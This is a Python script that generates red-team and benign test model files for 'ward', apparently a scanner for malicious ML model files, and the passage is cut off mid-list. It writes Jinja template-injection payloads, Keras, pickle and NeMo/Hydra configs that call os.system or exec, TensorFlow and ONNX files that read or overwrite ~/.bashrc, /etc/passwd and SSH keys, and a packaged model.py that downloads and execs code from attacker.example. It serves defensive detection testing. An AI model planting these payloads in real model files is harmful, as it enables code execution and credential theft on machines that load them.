#!/usr/bin/python3
"""Red-team and benign files for ward's template, Keras, TensorFlow, ONNX and
code-next-to-weights analysis (issue 13). Every payload is harmless (it
would run `echo ward-redteam` or read a file into a model) and every file is
WRITTEN, never loaded. Run with Debian's python3 (python3-h5py, python3-onnx,
python3-numpy):

    /usr/bin/python3 checks/model/testdata/redteam/gen_redteam.py

Keras and TensorFlow are not packaged in Debian: their files are written by
hand following the documented formats (Keras 3 saving_lib: a zip with
config.json, metadata.json, model.weights.h5; Keras 2: HDF5 root attribute
model_config; TensorFlow: saved_model.proto / graph.proto, field numbers in
checks/model/tfmodel/proto/tf_subset.proto). manifest.json lists each file
with its technique, source, the loader that runs it, and what ward must
report; checks/model/redteam_test.go holds ward to it."""

import base64
import gzip
import io
import json
import marshal
import os
import sys
import struct
import tarfile
import zipfile

import h5py
import numpy as np
import onnx
from google.protobuf import json_format, text_format
from onnx import TensorProto, helper

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True  # no __pycache__ in testdata
sys.path.insert(0, os.path.dirname(HERE))  # redteam_wire.py, shared by the red-team generators
from redteam_wire import const_str, fld, gguf, node, varint  # noqa: E402
MAL = os.path.join(HERE, "malicious")
BEN = os.path.join(HERE, "benign")
ECHO = "echo ward-redteam"
manifest = []
benign = []


def zput(z, name, data):
    """A zip member with a fixed date, so that the files are reproducible."""
    info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
    info.compress_type = z.compression
    z.writestr(info, data)


def out(base, rel):
    p = os.path.join(base, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def add(rel, fmt, technique, source, loader, rule, evidence):
    manifest.append(dict(file=rel, format=fmt, technique=technique, source=source, loader=loader,
                         rule=rule, evidence=evidence))


def write(base, rel, data):
    with open(out(base, rel), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


# ---------------------------------------------------------------- GGUF / Jinja
BENIGN_TPL = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
              "'<|im_end|>\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
CVE_34359 = "CVE-2024-34359 (llama-cpp-python, GGUF chat template SSTI)"
TEMPLATES = [
    ("gguf_set_block.gguf", "{% set k %}__class__{% endset %}{% for m in messages %}{{ m.content }}{% endfor %}{{ ''[k].__mro__ }}",
     "name built in a block {% set %}…{% endset %} and used as a subscript", CVE_34359 + "; issue 13 class: block set", "__class__"),
    ("tpl_with.jinja", "{% with g = lipsum.__globals__ %}{{ g.os.popen('" + ECHO + "').read() }}{% endwith %}{% for message in messages %}{{ message.content }}{% endfor %}",
     "escape inside {% with %}", "Jinja SSTI (lipsum.__globals__), CVE-2024-34359", "__globals__"),
    ("tpl_filter_block.jinja", "{% for message in messages %}{{ message['role'] }}{% endfor %}{% filter attr('__class__') %}x{% endfilter %}",
     "|attr inside a {% filter %} block", "Jinja SSTI, issue 13 class: filter block", "__class__"),
    ("tpl_call_block.jinja", "{% macro m() %}{{ caller() }}{% endmacro %}{% call m() %}{{ cycler.__init__.__globals__.os.popen('" + ECHO + "') }}{% endcall %}{% for message in messages %}{% endfor %}",
     "escape inside a {% call %} block", "Jinja SSTI (cycler.__init__.__globals__)", "__init__"),
    ("tpl_macro_default.jinja", "{% macro render(x=self._TemplateReference__context) %}{{ x }}{% endmacro %}{% for message in messages %}{{ render() }}{% endfor %}",
     "private attribute in a macro default", "Jinja SSTI (TemplateReference context)", "_TemplateReference__context"),
    ("tpl_percent_c.jinja", "{% for message in messages %}{{ message.content }}{% endfor %}{{ ()|attr(('%c' % 95) * 2 ~ 'class' ~ ('%c' % 95) * 2) }}",
     "'%c' % 95 builds the underscores", "SSTI filter-bypass cheat sheets (PayloadsAllTheThings, Jinja2)", "__class__"),
    ("tpl_user_chosen_names.jinja", "{% for message in messages %}{{ message.content }}{% endfor %}{{ cycler[messages[0].content][messages[1].content] }}",
     "attribute names taken from chat messages at render time (getitem falls back to getattr)", "issue 13 class: computed subscripts", "cycler["),
    ("tpl_map_attribute.jinja", "{% for message in messages %}{% endfor %}{{ messages|map(attribute=messages[-1].content)|list }}",
     "map(attribute=…) with a computed name", "issue 13 class: computed attribute filters", "map("),
    ("tpl_sum_attribute.jinja", "{% for message in messages %}{% endfor %}{{ messages|sum(attribute='__class__.__mro__', start=[]) }}",
     "sum(attribute=…) reaching __mro__", "issue 13 class: attribute filters", "__mro__"),
    ("tpl_reversed.jinja", "{% for message in messages %}{% endfor %}{{ ''['__ssalc__'[::-1]] }}",
     "name written backwards and reversed with a slice", "SSTI obfuscation (string reversal)", "__class__"),
    ("tpl_generation.jinja", "{% for message in messages %}{% if message.role == 'assistant' %}{% generation %}{{ message.content.__class__.__mro__ }}{% endgeneration %}{% endif %}{% endfor %}",
     "payload inside transformers' {% generation %} tag", "transformers AssistantTracker extension; CVE-2024-34359", "__mro__"),
    ("tpl_selectattr_break.jinja", "{% for message in messages %}{% if loop.index > 3 %}{% break %}{% endif %}{{ messages|selectattr('__class__')|list }}{% endfor %}",
     "selectattr('__class__') next to loop controls", "jinja2.ext.loopcontrols as enabled by transformers", "__class__"),
    ("tpl_format_field.jinja", "{% for message in messages %}{% endfor %}{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
     "str.format field that reads attributes", "Python format-string attribute access (Armin Ronacher, 2016)", "{0.__class__"),
    ("tpl_join_namespace.jinja", "{% set ns = namespace(s='') %}{% for c in ['_','_','glob','als','_','_'] %}{% set ns.s = ns.s ~ c %}{% endfor %}{% for message in messages %}{% endfor %}{{ lipsum|attr(ns.s) }}",
     "name accumulated in a namespace over a loop", "SSTI obfuscation (character accumulation)", "|attr("),
]
for name, src, tech, source, ev in TEMPLATES:
    if name.endswith(".gguf"):
        write(MAL, "templates/" + name, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", src)]))
        add("templates/" + name, "GGUF", tech, source, "llama-cpp-python Llama(…) / llama.cpp server (Jinja)", "model-gguf-chat-template-injection", ev)
    else:
        write(MAL, "templates/" + name, src)
        add("templates/" + name, "chat_template.jinja", tech, source, "transformers apply_chat_template, vLLM, TGI", "model-chat-template-injection", ev)

big = "{# " + "padding " * 140000 + "#}" + BENIGN_TPL + "{{ ()|attr('__cla' ~ 'ss__') }}"
write(MAL, "templates/gguf_large_template.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", big)]))
add("templates/gguf_large_template.gguf", "GGUF", "payload after 1.1 MB of template (past the old 1 MiB parse limit)",
    "issue 13 class: templates past 1 MiB", "llama.cpp server (Jinja)", "model-gguf-chat-template-injection", "__class__")
write(MAL, "templates/gguf_named_tool_use.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", BENIGN_TPL),
      ("tokenizer.chat_template.tool_use", "{% for t in tools %}{{ t.__init__.__globals__['os'].popen('" + ECHO + "').read() }}{% endfor %}")]))
add("templates/gguf_named_tool_use.gguf", "GGUF", "payload only in the named tool_use template", "GGUF spec: tokenizer.chat_template.<name>",
    "llama.cpp server --jinja with tools", "model-gguf-chat-template-injection", "__globals__")
write(MAL, "templates/tokenizer_config.json", json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": [
    {"name": "default", "template": BENIGN_TPL},
    {"name": "rag", "template": "{% for d in documents %}{{ d|attr('\\x5f\\x5fclass\\x5f\\x5f') }}{% endfor %}" + BENIGN_TPL}]}))
add("templates/tokenizer_config.json", "tokenizer_config.json", "payload in a named template of the chat_template list, hidden with \\x escapes",
    "transformers: chat_template as a list of {name, template}", "transformers apply_chat_template(chat_template='rag')", "model-chat-template-injection", "\\x5f")
write(MAL, "templates/chat_template.json", json.dumps({"chat_template": "{% set p = ['__cla', 'ss__'] %}{% set k = p|join %}" + BENIGN_TPL + "{{ messages|attr(k) }}"}))
add("templates/chat_template.json", "chat_template.json", "name joined from a list in a {% set %}", "transformers chat_template.json (processors)",
    "transformers AutoProcessor.apply_chat_template", "model-chat-template-injection", "__class__")

# ---------------------------------------------------------------- Keras
def lam(code):
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": "Lambda",
            "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {
                "code": base64.b64encode(code.encode()).decode(), "defaults": None, "closure": None}}}}


def dense(**extra):
    cfg = {"name": "dense", "units": 2, "activation": "linear",
           "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None},
           "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": None}}
    cfg.update(extra)
    return {"module": "keras.layers", "class_name": "Dense", "config": cfg, "registered_name": None}


def seq(*layers):
    return {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {
        "name": "sequential", "layers": [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                                          "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}}] + list(layers)}}


def weights_h5():
    bio = io.BytesIO()
    with h5py.File(bio, "w") as f:
        g = f.create_group("layers/dense/vars")
        g.create_dataset("0", data=np.zeros((4, 2), dtype="float32"))
        g.create_dataset("1", data=np.zeros((2,), dtype="float32"))
    return bio.getvalue()


def keras_zip(config, raw_config=None, prefix=b""):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        zput(z, "metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-06-01@00:00:00"}))
        zput(z, "config.json", raw_config if raw_config is not None else json.dumps(config))
        zput(z, "model.weights.h5", weights_h5())
    return prefix + bio.getvalue()


PY_LAMBDA = "lambda x: __import__('os').system('" + ECHO + "') or x"
K = "keras.saving.load_model"
K3 = K + " (Keras 3)"
write(MAL, "keras/prefixed.keras", keras_zip(seq(lam(PY_LAMBDA)), prefix=b"#!/bin/sh\n# not a zip, says file(1)\n" + b"\0" * 4000))
add("keras/prefixed.keras", "Keras 3 .keras", "zip behind a 4 KB prefix (Python's zipfile finds it from the end)",
    "issue 13 class: .keras behind a prefix; ModelAudit test_keras_zip_scanner", K3 + ", safe_mode=False", "model-keras-lambda", "system")
write(MAL, "keras/folder/config.json", json.dumps(seq(dense(activation={"class_name": "__lambda__", "config": {
    "code": base64.b64encode(PY_LAMBDA.encode()).decode(), "defaults": None, "closure": None}}))))
write(MAL, "keras/folder/model.weights.h5", weights_h5())
add("keras/folder/config.json", "Keras 3 unzipped folder", "__lambda__ as a Dense activation in an unzipped model folder",
    "issue 13 class: __lambda__ anywhere, unzipped folder", K3 + " of the folder", "model-keras-lambda", "system")
os_ref = seq(dense(kernel_initializer={"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}))
write(MAL, "keras/bom.keras", keras_zip(None, raw_config=b"\xef\xbb\xbf" + json.dumps(os_ref).encode()))
add("keras/bom.keras", "Keras 3 .keras", "config.json with a UTF-8 BOM naming os.system as an initializer",
    "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp); Python json.loads accepts the BOM", K3 + ", safe_mode=True", "model-keras-unsafe-module", "os.system")
write(MAL, "keras/utf16/config.json", json.dumps(seq(dense(bias_initializer={"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "exec"}))).encode("utf-16"))
add("keras/utf16/config.json", "Keras 3 unzipped folder", "config.json in UTF-16 naming builtins.exec",
    "CVE-2025-1550; json.detect_encoding reads UTF-16/32", K3 + " of the folder", "model-keras-unsafe-module", "builtins.exec")
write(MAL, "keras/get_file.keras", keras_zip(seq(dense(kernel_initializer={"module": "keras.utils", "class_name": "function", "config": "get_file",
                                                                             "registered_name": "get_file"}))))
add("keras/get_file.keras", "Keras 3 .keras", "keras.utils.get_file reached from a config (downloads into a chosen path)",
    "CVE-2025-8747 (GHSA-c9rc-mg46-23w3, JFrog)", K3 + ", safe_mode=True, < 3.11", "model-keras-unsafe-module", "get_file")
write(MAL, "keras/unsafe_deser.keras", keras_zip(seq(dense(kernel_regularizer={"module": "keras.config", "class_name": "function",
                                                                                 "config": "enable_unsafe_deserialization", "registered_name": None}), lam(PY_LAMBDA))))
add("keras/unsafe_deser.keras", "Keras 3 .keras", "keras.config.enable_unsafe_deserialization first, then a Lambda",
    "CVE-2025-9906 (GHSA-36fq-jgmw-4r9c)", K3 + ", safe_mode=True, < 3.11", "model-keras-unsafe-module", "enable_unsafe_deserialization")


class Payload:
    def __reduce__(self):
        return (os.system, (ECHO,))


import pickle  # noqa: E402  (only dumps: nothing is loaded)

evil_pickle = pickle.dumps(Payload(), protocol=2)
write(MAL, "keras/torch_wrapper.keras", keras_zip(seq({"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": "TorchModuleWrapper",
                                                        "config": {"name": "torch_module_wrapper", "module": base64.b64encode(evil_pickle).decode()}})))
add("keras/torch_wrapper.keras", "Keras 3 .keras", "TorchModuleWrapper whose base64 module is a pickle calling os.system",
    "CVE-2025-49655 (GHSA-c5w8-r2pf-v4jq)", K3 + " (torch backend), safe_mode=True", "model-keras-unsafe-module", "posix.system")
write(MAL, "keras/vocab_file.keras", keras_zip(seq({"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
                                                      "config": {"name": "lookup", "vocabulary": "/etc/passwd", "output_mode": "int"}})))
add("keras/vocab_file.keras", "Keras 3 .keras", "StringLookup vocabulary read from /etc/passwd at load time",
    "CVE-2025-12058 (Keras StringLookup/IntegerLookup file read, fixed in 3.12)", K3 + ", safe_mode=True", "model-keras-file-access", "/etc/passwd")
write(MAL, "keras/node_kwargs.keras", keras_zip({"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
    "config": {"name": "f", "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1}, "registered_name": None,
               "inbound_nodes": [{"args": [], "kwargs": {"training": {"module": "subprocess", "class_name": "function", "config": "check_output",
                                                                       "registered_name": None}}}]}]}}))
add("keras/node_kwargs.keras", "Keras 3 .keras", "subprocess.check_output hidden in a node's call kwargs",
    "CVE-2025-1550 variant (ModelAudit keras_zip scanner: module references anywhere)", K3, "model-keras-unsafe-module", "subprocess.check_output")
write(MAL, "keras/compile_metric.keras", keras_zip(dict(seq(dense()), compile_config={"optimizer": "adam", "loss": "mse",
    "metrics": [{"module": "builtins", "class_name": "function", "config": "eval", "registered_name": None}]})))
add("keras/compile_metric.keras", "Keras 3 .keras", "builtins.eval as a metric in compile_config",
    "CVE-2025-1550 (metrics and losses are deserialised too)", K3 + " (compile=True)", "model-keras-unsafe-module", "builtins.eval")
write(MAL, "keras/load_model.keras", keras_zip(seq(dense(kernel_constraint={"module": "keras.models", "class_name": "function", "config": "load_model",
                                                                              "registered_name": None}))))
add("keras/load_model.keras", "Keras 3 .keras", "keras.models.load_model named as a constraint (keras.* is not trusted wholesale)",
    "issue 13: keras.* not trusted wholesale; CVE-2025-8747 class", K3, "model-keras-unsafe-module", "load_model")
write(MAL, "keras/base64_source_lambda.keras", keras_zip({"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "name": "l",
    "config": {"function": [base64.b64encode(b"exec(\"import os; os.system('" + ECHO.encode() + b"')\")").decode(), None, None], "function_type": "lambda"}}]}}))
add("keras/base64_source_lambda.keras", "Keras .keras (Keras 2 style Lambda)", "base64 of Python source (not marshal) in a Lambda",
    "ModelAudit test_keras_zip_scanner test_lambda_layer_with_exec", K + " (safe_mode=False)", "model-keras-lambda", "exec")


write(MAL, "keras/numpy_load.keras", keras_zip(seq(dense(kernel_initializer={"module": "numpy", "class_name": "load", "registered_name": None,
    "config": {"file": "assets/blob.npy", "allow_pickle": True}}))))
add("keras/numpy_load.keras", "Keras 3 .keras", "numpy.load(allow_pickle=True) as an initializer class: a pickle loaded by the model config",
    "CVE-2025-1550 class (any importable callable); ModelAudit keras_zip scanner module checks", K3 + ", safe_mode=True, < 3.9",
    "model-keras-unsafe-module", "numpy.load")


def h5_model(path, config):
    with h5py.File(out(MAL, path), "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        f.create_group("model_weights")


code = marshal.dumps(compile("lambda s: __import__('os').system('" + ECHO + "') and s", "<lambda>", "eval"))
h5_model("keras/output_shape_lambda.h5", {"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Lambda", "config": {
    "name": "l", "function": "relu", "function_type": "function", "module": "keras.activations",
    "output_shape": [base64.b64encode(code).decode(), None, None], "output_shape_type": "lambda", "arguments": {}}}]}})
add("keras/output_shape_lambda.h5", "Keras 2 HDF5", "marshalled lambda in output_shape, the function itself harmless",
    "issue 13 class: __lambda__ in output_shape; CVE-2024-3660 family", "tf.keras.models.load_model (Keras 2)", "model-keras-lambda", "system")
h5_model("keras/h5_os_module.h5", {"class_name": "Sequential", "config": {"name": "s", "layers": [{"module": "posix", "class_name": "system",
    "config": {"name": "x"}, "registered_name": "system"}]}})
add("keras/h5_os_module.h5", "Keras HDF5 (read by Keras 3)", "posix.system as a layer class in an HDF5 model_config",
    "CVE-2025-1550 via the legacy H5 path", K3 + " of a .h5", "model-keras-unsafe-module", "posix.system")

# ---------------------------------------------------------------- TensorFlow (hand-written protobuf)
def attr_func(key, fname):
    return fld(5, fld(1, key) + fld(2, fld(10, fld(1, fname))))


def saved_model(nodes, functions=()):
    g = b"".join(fld(1, n) for n in nodes)
    if functions:
        g += fld(2, b"".join(fld(1, f) for f in functions))
    return fld(1, 1) + fld(2, fld(2, g))


def function(name, nodes):
    return fld(1, fld(1, name)) + b"".join(fld(3, n) for n in nodes)


BASE = [node("x", "Placeholder"), node("y", "MatMul", ["x", "x"]), node("i", "Identity", ["y"])]
TF = "tf.saved_model.load / TF Serving"
write(MAL, "tf/dataset_to_tfrecord/saved_model.pb", saved_model(BASE + [const_str("p", "/home/user/.bashrc"),
    node("ds", "TensorSliceDataset", ["x"]), node("w", "DatasetToTFRecord", ["ds", "p", "ct"])]))
add("tf/dataset_to_tfrecord/saved_model.pb", "TF SavedModel", "DatasetToTFRecord writes attacker bytes over ~/.bashrc",
    "issue 13 class: file writers beyond WriteFile (tf.data.experimental.TFRecordWriter)", TF, "model-tf-dangerous-op", "DatasetToTFRecord")
write(MAL, "tf/table_from_file/saved_model.pb", saved_model(BASE + [const_str("v", "/etc/passwd"), node("t", "HashTableV2"),
    node("init", "InitializeTableFromTextFileV2", ["t", "v"])]))
add("tf/table_from_file/saved_model.pb", "TF SavedModel", "lookup table filled from /etc/passwd (file into model outputs)",
    "issue 13 class: tables from files (tf.lookup.TextFileInitializer)", TF, "model-tf-dangerous-op", "InitializeTableFromTextFileV2")
write(MAL, "tf/whole_file_reader/saved_model.pb", saved_model(BASE + [node("r", "WholeFileReaderV2"), node("q", "FIFOQueueV2"),
    node("rr", "ReaderReadV2", ["r", "q"])]))
add("tf/whole_file_reader/saved_model.pb", "TF SavedModel", "WholeFileReaderV2 + ReaderReadV2 read files of the server",
    "issue 13 class: readers (tf.compat.v1.WholeFileReader)", TF, "model-tf-dangerous-op", "WholeFileReaderV2")
write(MAL, "tf/generator_dataset/saved_model.pb", saved_model(BASE + [node("c", "StatefulPartitionedCall", ["x"], attr_func("f", "__inference_data_7"))],
    [function("__inference_data_7", [node("g", "GeneratorDataset", ["a", "b"])])]))
add("tf/generator_dataset/saved_model.pb", "TF SavedModel", "GeneratorDataset (Python callbacks) inside a library function",
    "tf.data.Dataset.from_generator; ModelAudit tf_savedmodel scanner", TF, "model-tf-dangerous-op", "GeneratorDataset")
write(MAL, "tf/unknown_op/saved_model.pb", saved_model(BASE + [node("d", "DebugIdentityV3", ["y"], fld(5, fld(1, "debug_urls") + fld(2, fld(1, fld(2, "file:///tmp/ward-redteam")))))]))
add("tf/unknown_op/saved_model.pb", "TF SavedModel", "DebugIdentityV3 dumps tensors to a debug URL (not on any denylist)",
    "issue 13: allowlist of pure-compute ops instead of a denylist", TF, "model-tf-dangerous-op", "DebugIdentityV3")
write(MAL, "tf/pbtxt/saved_model.pbtxt", """saved_model_schema_version: 1
meta_graphs {
  graph_def {
    node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/home/user/.bashrc" } } } }
    node { name: "c" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "echo ward-redteam\\n" } } } }
    node { name: "w" op: "WriteFile" input: "p" input: "c" }
  }
}
""")
add("tf/pbtxt/saved_model.pbtxt", "TF SavedModel (text)", "WriteFile in saved_model.pbtxt, which TF loads when there is no .pb",
    "issue 13 class: read saved_model.pbtxt; TensorFlow loader.cc reads both", TF, "model-tf-dangerous-op", "WriteFile")

# ---------------------------------------------------------------- ONNX (python3-onnx writes the models)
def onnx_model(location, extra_locations=()):
    w = helper.make_tensor("w", TensorProto.FLOAT, [2], [0.0, 0.0])
    w.data_location = TensorProto.EXTERNAL
    del w.float_data[:]
    for loc in [location] + list(extra_locations):
        e = w.external_data.add()
        e.key, e.value = "location", loc
    g = helper.make_graph([helper.make_node("Add", ["X", "w"], ["Y"])], "g",
                          [helper.make_tensor_value_info("X", TensorProto.FLOAT, [2])],
                          [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [2])], [w])
    return helper.make_model(g, producer_name="ward-redteam", opset_imports=[helper.make_opsetid("", 13)])


def reorder(b):
    """Top-level fields of a serialised ModelProto, graph first."""
    fields, i = [], 0
    while i < len(b):
        start = i
        key = 0
        shift = 0
        while True:
            c = b[i]; i += 1; key |= (c & 0x7F) << shift; shift += 7
            if not c & 0x80:
                break
        if key & 7 == 0:
            while b[i] & 0x80:
                i += 1
            i += 1
        else:
            n = 0; shift = 0
            while True:
                c = b[i]; i += 1; n |= (c & 0x7F) << shift; shift += 7
                if not c & 0x80:
                    break
            i += n
        fields.append((key >> 3, b[start:i]))
    fields.sort(key=lambda f: (f[0] != 7, -f[0]))
    return b"".join(f[1] for f in fields)


ORT = "onnx.load / onnxruntime.InferenceSession"
write(MAL, "onnx/graph_first.onnx", reorder(onnx_model("../../../../../etc/passwd").SerializeToString()))
add("onnx/graph_first.onnx", "ONNX", "graph field first, ir_version last; external data ../../etc/passwd",
    "issue 13 class: fields in any order; CVE-2024-27318 (external data traversal)", ORT, "model-onnx-external-data-path", "etc/passwd")
m = onnx_model("w.bin", ["/root/.ssh/id_rsa"])
write(MAL, "onnx/two_locations.onnx", m.SerializeToString())
add("onnx/two_locations.onnx", "ONNX", "two location entries: a harmless one and /root/.ssh/id_rsa",
    "CVE-2024-27318 bypass class (readers take different entries)", ORT, "model-onnx-external-data-path", "id_rsa")
write(MAL, "onnx/unc.onnx", onnx_model("\\\\attacker.example\\share\\w.bin").SerializeToString())
add("onnx/unc.onnx", "ONNX", "UNC path to a remote share (Windows)", "CVE-2024-27318 class; ModelAudit onnx scanner", ORT + " on Windows",
    "model-onnx-external-data-path", "attacker.example")
write(MAL, "onnx/textproto.txt", text_format.MessageToString(onnx_model("/proc/self/environ")))
add("onnx/textproto.txt", "ONNX text proto", "text-proto form with an absolute external path",
    "issue 13 class: text-proto form; onnx.load(format='textproto') (onnx >= 1.16)", "onnx.load(..., format='textproto')",
    "model-onnx-external-data-path", "/proc/self/environ")
write(MAL, "onnx/model.json", json_format.MessageToJson(onnx_model("..\\..\\..\\secrets.env")))
add("onnx/model.json", "ONNX JSON", "JSON form with a backslash traversal", "issue 13 class: JSON form; onnx.load(format='json')",
    "onnx.load(..., format='json')", "model-onnx-external-data-path", "secrets.env")

# ---------------------------------------------------------------- code next to weights
bio = io.BytesIO()
with zipfile.ZipFile(bio, "w") as z:
    zput(z, "model/.data/version", "6\n")
    zput(z, "model/.data/extern_modules", "torch\n")
    zput(z, "model/.data/python_version", "3.11")
    zput(z, "model/net/model.py", "import os, torch, urllib.request\nos.system('" + ECHO + "')\n"
               "exec(urllib.request.urlopen('http://attacker.example/stage2').read())\n"
               "class Net(torch.nn.Module):\n    pass\n")
    zput(z, "model/net/__init__.py", "")
    zput(z, "model/model.pkl", pickle.dumps({"weights": [0.0]}, protocol=3))
write(MAL, "code/torch_package.pt", bio.getvalue())
add("code/torch_package.pt", "torch.package", "net/model.py runs os.system when the package imports it",
    "PyTorch docs: torch.package runs packaged code; ModelAudit zip scanner (Python files in model archives)",
    "torch.package.PackageImporter(...).load_pickle", "model-archive-code", "os.system")


bio = io.BytesIO()
with zipfile.ZipFile(bio, "w") as z:
    zput(z, "MAR-INF/MANIFEST.json", json.dumps({"runtime": "python", "model": {"modelName": "m", "handler": "handler.py",
                                                                              "serializedFile": "model.pt", "modelVersion": "1.0"}}))
    zput(z, "handler.py", "import subprocess\nfrom ts.torch_handler.base_handler import BaseHandler\n"
         "class H(BaseHandler):\n    def initialize(self, ctx):\n        subprocess.run('" + ECHO + "', shell=True)\n")
    zput(z, "model.pt", b"PK-placeholder-weights")
write(MAL, "code/model.mar", bio.getvalue())
add("code/model.mar", "TorchServe .mar", "handler.py of a TorchServe archive runs subprocess on load",
    "ModelAudit test_torchserve_mar_scanner; TorchServe model archive format", "torchserve --models m=model.mar", "model-archive-code", "subprocess")


def tar_bytes(members, gz=False):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w") as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    return gzip.compress(bio.getvalue(), mtime=0) if gz else bio.getvalue()


NEMO_CFG = """sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  window_size: 0.025
encoder:
  _target_: {target}
  _args_: ["{cmd}"]
"""
ckpt = pickle.dumps({"state_dict": {}}, protocol=2)
write(MAL, "code/hydra_os.nemo", tar_bytes([("./model_config.yaml", NEMO_CFG.format(target="os.system", cmd=ECHO).encode()),
                                             ("./model_weights.ckpt", ckpt)]))
add("code/hydra_os.nemo", "NeMo .nemo", "Hydra _target_: os.system in model_config.yaml",
    "CVE-2025-23304 (NVIDIA NeMo restore_from, Hydra instantiate)", "nemo ModelPT.restore_from", "model-archive-code", "os.system")
write(MAL, "code/hydra_gz.nemo", tar_bytes([("model_config.yaml", "encoder: {_target_: 'builtins.exec', _args_: [\"print(1)\"]}\n".encode()),
                                             ("model_weights.ckpt", ckpt)], gz=True))
add("code/hydra_gz.nemo", "NeMo .nemo (gzip)", "flow-style _target_: builtins.exec in a gzipped .nemo",
    "CVE-2025-23304; ModelAudit test_nemo_scanner", "nemo ModelPT.restore_from", "model-archive-code", "builtins.exec")

# YAML spellings of a Hydra target that a pattern over the text misses; each
# is what OmegaConf.load (PyYAML SafeLoader + OmegaConf interpolation) reads
# as _target_: <payload> before hydra.utils.instantiate imports and calls it
# (CVE-2025-23304; Hydra docs "Instantiating objects with Hydra"; YAML 1.1
# merge keys, PyYAML anchors/aliases; OmegaConf docs "Variable interpolation").
NEMO_TRICKS = [
    ("hydra_alias_value.nemo", "_target_ value is an alias of an anchored scalar elsewhere",
     "YAML 1.2 anchors and aliases (PyYAML resolves them)", "posix.system",
     "names:\n  run: &run posix.system\nencoder:\n  _target_: *run\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_merge_key.nemo", "_target_ arrives through a merge key (<<: *base) from an anchored mapping",
     "YAML 1.1 merge key type; PyYAML SafeLoader flattens merges", "subprocess.getoutput",
     "base: &base\n  _target_: subprocess.getoutput\n  _args_: [\"%s\"]\nencoder:\n  <<: *base\n" % ECHO),
    ("hydra_escaped_key.nemo", "double-quoted key with an escape (\"\\x5ftarget_\")",
     "YAML 1.2 double-quoted escapes (\\x hex); PyYAML decodes them", "os.system",
     "encoder:\n  \"\\x5ftarget_\": os.system\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_unicode_key.nemo", "double-quoted key with a \\u escape (\"\\u005ftarget_\")",
     "YAML 1.2 double-quoted escapes (\\u); PyYAML decodes them", "builtins.exec",
     "encoder:\n  \"\\u005ftarget_\": builtins.exec\n  _args_: [\"print(1)\"]\n"),
    ("hydra_complex_key.nemo", "explicit key (? _target_) with a comment before its value",
     "YAML 1.2 explicit (complex) mapping keys", "os.popen",
     "encoder:\n  ? _target_  # looks like a lone key\n  : os.popen\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_aliased_key.nemo", "the key itself is an alias of an anchored '_target_' scalar",
     "YAML 1.2 aliases as mapping keys; PyYAML resolves them", "os.system",
     "preprocessor:\n  &t _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n"
     "encoder:\n  *t : os.system\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_tag_str.nemo", "value carries an explicit !!str tag", "YAML 1.2 core schema tags (PyYAML SafeLoader accepts !!str)",
     "os.system", "encoder:\n  _target_: !!str os.system\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_folded_value.nemo", "value written as a folded block scalar (>-)", "YAML 1.2 block scalars",
     "builtins.eval", "encoder:\n  _target_: >-\n    builtins.eval\n  _args_: [\"1+1\"]\n"),
    ("hydra_flow_explicit.nemo", "flow mapping with an explicit key split over lines", "YAML 1.2 flow mappings",
     "runpy.run_path", "encoder: {\n  ? _target_\n  : runpy.run_path,\n  path_name: /tmp/ward-redteam.py}\n"),
    ("hydra_interpolation.nemo", "_target_ is an OmegaConf interpolation of another key (${payload.fn})",
     "OmegaConf variable interpolation (resolved before Hydra reads _target_)", "os.system",
     "payload:\n  fn: os.system\nencoder:\n  _target_: ${payload.fn}\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_relative_interp.nemo", "relative interpolation (${.fn}) to a sibling key",
     "OmegaConf relative interpolation", "posix.system",
     "encoder:\n  fn: posix.system\n  _target_: ${.fn}\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_string_interp.nemo", "name assembled from two interpolations (${m}.${f})",
